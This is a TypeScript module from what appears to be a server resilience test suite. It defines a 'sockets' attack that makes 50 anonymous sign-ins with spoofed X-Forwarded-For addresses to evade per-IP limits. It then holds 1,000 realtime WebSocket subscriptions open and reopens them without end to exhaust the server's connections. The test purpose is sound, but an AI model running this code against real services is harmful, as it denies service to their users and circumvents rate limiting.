import { WebSocket } from "ws";
import { type Attack, type Attacker, repeatForever } from "./attack.ts";

/** Sign-ins of people without a family, each from a network of its own. */
const SIGN_INS = 50;
const SOCKETS_EACH = 20;
/** The pause before a socket that was closed or refused is opened again. */
const RETRY_MS = 1000;

/** Opens as many live connections as the server has, for sign-ins that cost nothing. */
export const sockets: Attack = {
	name: "sockets",
	families: [{ members: 1, turns: 0 }],
	requiredAnswers: ["joined"],
	keepsMedians: true,
	isAboutLiveUpdates: true,
	async start([attacker]) {
		if (attacker === undefined) return;
		for (let signIn = 0; signIn < SIGN_INS; signIn++) {
			const from = `100.64.${signIn}.1`;
			const token = await signInFrom(attacker, from);
			for (let socket = 0; socket < SOCKETS_EACH; socket++) void repeatForever(() => holdSocket(attacker, token, from));
		}
		return new Promise(() => {});
	},
};

async function signInFrom({ url, apiKey }: Attacker, from: string): Promise<string> {
	const response = await fetch(`${url}/auth/v1/signup`, {
		method: "POST",
		headers: { apikey: apiKey, "content-type": "application/json", "x-forwarded-for": from },
		body: "{}",
	});
	return ((await response.json()) as { access_token: string }).access_token;
}

/** Resolves when the socket is closed, or refused, and it is time for the next. */
async function holdSocket({ url, apiKey, count }: Attacker, token: string, from: string): Promise<void> {
	const address = `${url.replace("http", "ws")}/realtime/v1/websocket?apikey=${apiKey}&vsn=1.0.0`;
	const socket = new WebSocket(address, { headers: { "x-forwarded-for": from } });
	const payload = { config: { postgres_changes: [{ event: "*", schema: "public" }] }, access_token: token };
	socket.on("open", () =>
		socket.send(JSON.stringify({ topic: "realtime:any", event: "phx_join", payload, ref: "1", join_ref: "1" })),
	);
	socket.on("message", (data) => {
		const { event, payload } = JSON.parse(String(data));
		if (event === "phx_reply") count(payload.status === "ok" ? "joined" : "not joined");
	});
	socket.on("error", () => count("refused"));
	await new Promise((resolve) => socket.on("close", () => setTimeout(resolve, RETRY_MS)));
}
